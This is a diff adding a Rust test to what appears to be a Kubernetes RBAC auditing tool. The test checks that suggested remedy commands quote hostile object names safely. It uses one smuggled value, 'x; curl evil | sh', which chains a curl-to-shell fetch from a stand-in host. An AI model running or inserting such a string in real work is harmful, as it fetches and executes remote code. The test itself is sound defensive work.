@@ -343,3 +343,28 @@ fn what_stands_beside_rbac_is_told() {
     let later = findings(&shown.facts(), &Whose::default(), &RightsThen::default(), Some(at("2026-11-02T00:00:00Z")));
     assert_eq!(lines(&later).len(), 1, "what was there before is left out, what has no time is not");
 }
+
+/// Names of bindings, of ServiceAccounts in roles and of certificates are whatever their authors want.
+#[test]
+fn a_name_in_a_command_is_one_word_to_a_shell() {
+    let hostile = "x; curl evil | sh";
+    let token = json!([{
+        "verbs": ["create"], "apiGroups": [""], "resources": ["serviceaccounts/token"], "resourceNames": [hostile],
+    }]);
+    let bindings = [
+        ("shop", hostile, "ClusterRole/token", user(UID)),
+        ("", hostile, "ClusterRole/view", user("system:serviceaccount:ci:robot")),
+    ];
+    let rules = [("", "token", token), ("", "view", rule(&["get"], "", &["pods"]))];
+    let mut shown = Shown::new(&bindings, &rules, Vec::new());
+    shown.requests = vec![request("a", "bo", hostile)];
+    let found = findings(&shown.facts(), &Whose::default(), &RightsThen::default(), None);
+    let found = found.into_iter().chain(findings(&shown.facts(), &shown.whose(), &RightsThen::default(), None));
+    let commands: Vec<String> =
+        found.filter_map(|found| found.remedy.command).filter(|one| one.contains(hostile)).collect();
+    assert!(commands.len() >= 4, "{commands:#?}");
+    for command in commands {
+        let outside: String = command.split('\'').step_by(2).collect();
+        assert!(!outside.contains([';', '|']), "{command}");
+    }
+}
